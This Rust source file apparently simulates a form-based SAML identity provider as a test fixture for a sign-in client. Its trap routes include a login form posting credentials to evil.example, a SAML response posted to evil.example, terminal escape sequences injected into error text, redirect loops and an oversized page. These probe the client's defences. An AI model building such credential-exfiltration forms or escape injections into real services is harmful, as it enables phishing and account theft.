//! An identity provider made of HTML forms, at `login.acme.example`.
//!
//! A sign-in starts at `/sso/<app>?style=<style>`; the style says which pages come. Each page has a form with
//! a token that is good once, and the box checks that what comes back is exactly what a browser would send:
//! hidden fields and the chosen option as they were, the pressed button, nothing that has no name.
//!
//! Some addresses are traps: `/sso/loop`, `/sso/bounce`, `/sso/huge`, `/sso/script`, `/sso/offsite`,
//! `/sso/stolen`, `/sso/notsaml` and `/sso/rude`.

use std::collections::HashMap;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::people::{Person, Push};
use crate::saml::{Site, issue, post_page};
use crate::wire::{Breach, Fields, Payload, Reply, Request, breach, escape};
use crate::world::{World, word};

const ISSUER: &str = "https://login.acme.example/idp";
/// Length of the page that never seems to end.
const HUGE: usize = 256 * 1024 * 1024;

/// What the provider remembers: sign-ins under way, by cookie.
#[derive(Debug, Default)]
pub(crate) struct State {
    flows: HashMap<String, Flow>,
}

/// One page of a sign-in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    /// User name and password on one page.
    Login,
    /// The same, with a search field that has no name.
    Unnamed,
    /// User name.
    User,
    /// Password, with the user name in a field that cannot be changed.
    Password,
    /// Which second factor.
    Choice,
    /// Code of an authenticator app.
    Totp,
    /// Waiting for a push.
    Wait,
    /// A page that goes on by itself.
    Refresh,
    /// Whether data may be sent on: yes comes first.
    Consent,
    /// The same, where no comes first.
    ConsentReversed,
}

/// Where a sign-in leads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ending {
    Cloud(Site),
    /// The response goes to somebody else.
    Stolen,
    /// The response is none.
    NotSaml,
}

#[derive(Debug, Clone)]
struct Flow {
    steps: Vec<Step>,
    ending: Ending,
    token: String,
    user: String,
    polls: u32,
    rude: bool,
}

/// Answers for `login.acme.example`.
pub(crate) fn answer(world: &mut World, request: &Request) -> Result<Reply, Breach> {
    let Some(name) = request.path.strip_prefix("/sso/") else {
        return breach("no such page");
    };
    match (request.method.as_str(), name) {
        ("POST", "next") => next(world, request),
        ("GET", "go") => go(world, request),
        ("GET" | "POST", "loop") => Ok(loop_page()),
        ("GET", "bounce") => Ok(Reply::redirect("/sso/bounce")),
        ("GET", "huge") => {
            let mut reply = Reply::html(200, "");
            reply.payload = Payload::Huge(HUGE);
            Ok(reply)
        }
        ("GET", "script") => Ok(page(
            "Sign in",
            "<div id=\"root\"></div><script>document.getElementById('root').innerHTML = '<form></form>'</script>",
        )),
        ("GET", "offsite") => Ok(page(
            "Sign in",
            "<form method=\"post\" action=\"http://evil.example/login\">\
             <input type=\"text\" name=\"username\"><input type=\"password\" name=\"password\">\
             <button type=\"submit\">Sign in</button></form>",
        )),
        ("GET", _) => start(world, request, name),
        (method, _) => breach(format!("no page for {method}")),
    }
}

fn steps(style: &str) -> Option<Vec<Step>> {
    use Step::{Choice, Consent, ConsentReversed, Login, Password, Refresh, Totp, Unnamed, User};
    Some(match style {
        "one" => vec![Login],
        "unnamed" => vec![Unnamed],
        "two" => vec![User, Password],
        "totp" => vec![Login, Totp],
        "choice" => vec![Login, Choice],
        "consent" => vec![Login, Consent],
        "consent-reversed" => vec![Login, ConsentReversed],
        "refresh" => vec![Refresh, Login, Refresh],
        "all" => vec![User, Password, Choice, Refresh, Consent],
        _ => return None,
    })
}

fn start(world: &mut World, request: &Request, name: &str) -> Result<Reply, Breach> {
    let ending = match (name, Site::of_app(name)) {
        (_, Some(site)) => Ending::Cloud(site),
        ("stolen", _) => Ending::Stolen,
        ("notsaml", _) => Ending::NotSaml,
        ("rude", _) => Ending::Cloud(Site::Aws),
        _ => return breach("no such application"),
    };
    let query = request.query_fields();
    // Identity providers are given the service provider's name in the address.
    query.exactly(&[], &["style", "spentityid"])?;
    let Some(steps) = steps(query.find("style").unwrap_or("one")) else {
        return breach("no such style");
    };
    let id = word::<24>();
    let flow = Flow { steps, ending, token: String::new(), user: String::new(), polls: 0, rude: name == "rude" };
    world.forms.flows.insert(id.clone(), flow);
    let cookie = format!("flow={id}; Path=/sso; Secure; HttpOnly; SameSite=None");
    Ok(show(world, &id, None).with("set-cookie", &cookie))
}

/// The sign-in that a request belongs to.
fn flow_of(world: &World, request: &Request) -> Result<(String, Flow), Breach> {
    let id = request.cookie("flow").unwrap_or_default();
    match world.forms.flows.get(id) {
        Some(flow) => Ok((id.to_owned(), flow.clone())),
        None => breach("the cookie of the sign-in is missing"),
    }
}

fn page(title: &str, body: &str) -> Reply {
    Reply::html(
        200,
        format!(
            "<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>{title}</title></head>\n\
             <body>\n<h1>{title}</h1>\n{body}\n</body>\n</html>\n"
        ),
    )
}

fn loop_page() -> Reply {
    page(
        "One moment",
        "<form method=\"post\" action=\"/sso/loop\" id=\"f\"><input type=\"hidden\" name=\"again\" value=\"1\">\
         </form><script>document.getElementById('f').submit()</script>",
    )
}

/// Shows the page of the step that is due, or the end.
fn show(world: &mut World, id: &str, error: Option<&str>) -> Reply {
    let token = word::<12>();
    let Some(flow) = world.forms.flows.get_mut(id) else {
        return page("Sign in", "<p>Your session has ended.</p>");
    };
    flow.token = token.clone();
    let flow = flow.clone();
    let Some(step) = flow.steps.first() else {
        return finish(world, &flow);
    };
    let error = match error {
        Some(text) if flow.rude => format!("{text}\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J"),
        Some(text) => text.to_owned(),
        None => String::new(),
    };
    let mut body = match error.is_empty() {
        true => String::new(),
        false => format!("<div class=\"error\">{}</div>\n", escape(&error)),
    };
    let go = format!("/sso/go?execution={token}");
    let refresh = |seconds: u32, text: &str| {
        Reply::html(
            200,
            format!(
                "<!DOCTYPE html>\n<html><head><meta http-equiv=\"refresh\" content=\"{seconds}; url={go}\">\
                 <title>One moment</title></head><body><p>{text}</p></body></html>\n"
            ),
        )
    };
    match step {
        Step::Refresh => return refresh(0, "Please wait."),
        Step::Wait => return refresh(1, "Approve the request on your phone."),
        _ => {}
    }
    body += &format!(
        "<form method=\"post\" action=\"next\" autocomplete=\"off\">\n\
         <input type=\"hidden\" name=\"execution\" value=\"{token}\">\n\
         <input type=\"hidden\" name=\"csrf\" value=\"a&amp;b=&quot;c&quot; {token}\">\n{}</form>\n\
         <form method=\"get\" action=\"/search\"><input name=\"q\"><button>Search</button></form>",
        inputs(*step, &flow)
    );
    page("Sign in", &body)
}

fn inputs(step: Step, flow: &Flow) -> String {
    const LOGIN: &str = "<label>User <input type=\"text\" name=\"username\"></label>\n\
        <label>Password <input type=\"password\" name=\"password\"></label>\n\
        <select name=\"realm\"><option value=\"guests\">Guests</option>\
        <option value=\"staff\" selected>Staff</option></select>\n\
        <label><input type=\"checkbox\" name=\"remember\" value=\"1\"> Remember me</label>\n\
        <input type=\"text\" name=\"legacy\" value=\"off\" disabled>\n\
        <button type=\"submit\" name=\"_eventId_proceed\" value=\"\">Sign in</button>\n";
    match step {
        Step::Login => LOGIN.to_owned(),
        Step::Unnamed => format!("<input type=\"text\" placeholder=\"Help\">\n{LOGIN}"),
        Step::User => "<label>E-mail <input type=\"email\" name=\"identifier\"></label>\n\
             <input type=\"submit\" value=\"Next\">\n"
            .to_owned(),
        Step::Password => format!(
            "<input type=\"email\" name=\"identifier\" value=\"{}\" readonly>\n\
             <label>Password <input type=\"password\" name=\"passwd\"></label>\n\
             <input type=\"submit\" value=\"Sign in\">\n",
            escape(&flow.user)
        ),
        Step::Choice => "<p>How do you want to prove who you are?</p>\n\
             <button type=\"submit\" name=\"factor\" value=\"totp\">Authenticator app</button>\n\
             <button type=\"submit\" name=\"factor\" value=\"push\">Push to your phone</button>\n"
            .to_owned(),
        Step::Totp => "<label>Code <input type=\"text\" name=\"otp\" inputmode=\"numeric\" \
             autocomplete=\"one-time-code\" maxlength=\"6\"></label>\n\
             <button type=\"submit\">Verify</button>\n"
            .to_owned(),
        Step::Consent => "<p>Acme will send your name and roles.</p>\n\
             <button type=\"submit\" name=\"consent\" value=\"yes\">Accept</button>\n\
             <button type=\"submit\" name=\"consent\" value=\"no\">Reject</button>\n"
            .to_owned(),
        Step::ConsentReversed => "<p>Acme will send your name and roles.</p>\n\
             <button type=\"submit\" name=\"consent\" value=\"no\">Reject</button>\n\
             <button type=\"submit\" name=\"consent\" value=\"yes\">Accept</button>\n"
            .to_owned(),
        Step::Wait | Step::Refresh => String::new(),
    }
}

fn finish(world: &mut World, flow: &Flow) -> Reply {
    let Some(person) = world.directory.person(&flow.user).cloned() else {
        return page("Sign in", "<p>Your session has ended.</p>");
    };
    match flow.ending {
        Ending::Cloud(site) => {
            let response = issue(world, &person, site, ISSUER);
            Reply::html(200, post_page(site.acs(), &response))
        }
        Ending::Stolen => {
            let response = issue(world, &person, Site::Aws, ISSUER);
            Reply::html(200, post_page("https://evil.example/saml", &response))
        }
        Ending::NotSaml => {
            let text = STANDARD.encode("<html><body>not SAML at all</body></html>");
            Reply::html(200, post_page(Site::Aws.acs(), &text))
        }
    }
}

/// Marks the step as done and shows the next one.
fn advance(world: &mut World, id: &str, then: Option<Step>) -> Reply {
    if let Some(flow) = world.forms.flows.get_mut(id) {
        flow.steps.remove(0);
        if let Some(step) = then {
            flow.steps.insert(0, step);
        }
    }
    show(world, id, None)
}

/// A page that goes on by itself has gone on.
fn go(world: &mut World, request: &Request) -> Result<Reply, Breach> {
    let (id, flow) = flow_of(world, request)?;
    let query = request.query_fields();
    query.exactly(&["execution"], &[])?;
    if query.get("execution") != flow.token {
        return breach("the token of the page is stale");
    }
    match flow.steps.first() {
        Some(Step::Refresh) => Ok(advance(world, &id, None)),
        Some(Step::Wait) => Ok(wait(world, &id, &flow)),
        _ => breach("the page does not go on by itself"),
    }
}

fn wait(world: &mut World, id: &str, flow: &Flow) -> Reply {
    let push = world.directory.person(&flow.user).map(|person| person.push);
    let polls = flow.polls + 1;
    if let Some(flow) = world.forms.flows.get_mut(id) {
        flow.polls = polls;
    }
    match push {
        Some(Push::Accepted { after }) if polls > after => advance(world, id, None),
        Some(Push::Denied { after } | Push::Refused { after }) if polls > after => {
            page("Sign in", "<div class=\"error\">The request was denied on your phone.</div>")
        }
        Some(Push::Expired { after }) if polls > after => {
            page("Sign in", "<div class=\"error\">The request was not answered in time.</div>")
        }
        _ => show(world, id, None),
    }
}

/// A form has come back.
fn next(world: &mut World, request: &Request) -> Result<Reply, Breach> {
    request.no_query()?;
    let (id, flow) = flow_of(world, request)?;
    let fields = request.form()?;
    let Some(step) = flow.steps.first().copied() else {
        return breach("a form after the end");
    };
    check_fields(step, &fields, &flow)?;
    let token = &flow.token;
    if fields.get("execution") != token || fields.get("csrf") != format!("a&b=\"c\" {token}") {
        return breach("a hidden field came back changed or stale");
    }
    for name in ["password", "passwd", "otp"] {
        world.secret(fields.get(name));
    }
    match step {
        Step::Login | Step::Unnamed => {
            set_user(world, &id, fields.get("username"));
            check_password(world, &id, fields.get("password"))
        }
        Step::User => {
            set_user(world, &id, fields.get("identifier"));
            Ok(advance(world, &id, None))
        }
        Step::Password => check_password(world, &id, fields.get("passwd")),
        Step::Choice => match fields.get("factor") {
            "totp" => Ok(advance(world, &id, Some(Step::Totp))),
            "push" => Ok(advance(world, &id, Some(Step::Wait))),
            other => breach(format!("no factor `{other}` on the page")),
        },
        Step::Totp => {
            let right = |person: &Person| person.accepts_code(fields.get("otp"));
            match world.directory.person(&flow.user).is_some_and(right) {
                true => Ok(advance(world, &id, None)),
                false => Ok(show(world, &id, Some("That code is not right."))),
            }
        }
        Step::Consent | Step::ConsentReversed => match fields.get("consent") {
            "yes" => Ok(advance(world, &id, None)),
            "no" => Ok(page("Sign in", "<div class=\"error\">You chose not to send your data.</div>")),
            other => breach(format!("no button `{other}` on the page")),
        },
        Step::Wait | Step::Refresh => breach("a form where none was shown"),
    }
}

/// What a browser would send, and nothing else.
fn check_fields(step: Step, fields: &Fields, flow: &Flow) -> Result<(), Breach> {
    let names: &[&str] = match step {
        Step::Login | Step::Unnamed => &["username", "password", "realm", "_eventId_proceed"],
        Step::User => &["identifier"],
        Step::Password => &["identifier", "passwd"],
        Step::Choice => &["factor"],
        Step::Totp => &["otp"],
        Step::Consent | Step::ConsentReversed => &["consent"],
        Step::Wait | Step::Refresh => &[],
    };
    let required: Vec<&str> = ["execution", "csrf"].into_iter().chain(names.iter().copied()).collect();
    fields.exactly(&required, &[])?;
    if fields.find("realm").is_some_and(|realm| realm != "staff") {
        return breach("the option `realm` is not the chosen one");
    }
    if step == Step::Password && fields.get("identifier") != flow.user {
        return breach("the field that cannot be changed came back changed");
    }
    Ok(())
}

fn set_user(world: &mut World, id: &str, user: &str) {
    if let Some(flow) = world.forms.flows.get_mut(id) {
        flow.user = user.to_owned();
    }
}

fn check_password(world: &mut World, id: &str, password: &str) -> Result<Reply, Breach> {
    let user = world.forms.flows.get(id).map(|flow| flow.user.clone());
    let person = user.and_then(|user| world.directory.person(&user));
    match person.is_some_and(|person| person.password == password) {
        true => Ok(advance(world, id, None)),
        false => Ok(show(world, id, Some("Incorrect user name or password."))),
    }
}
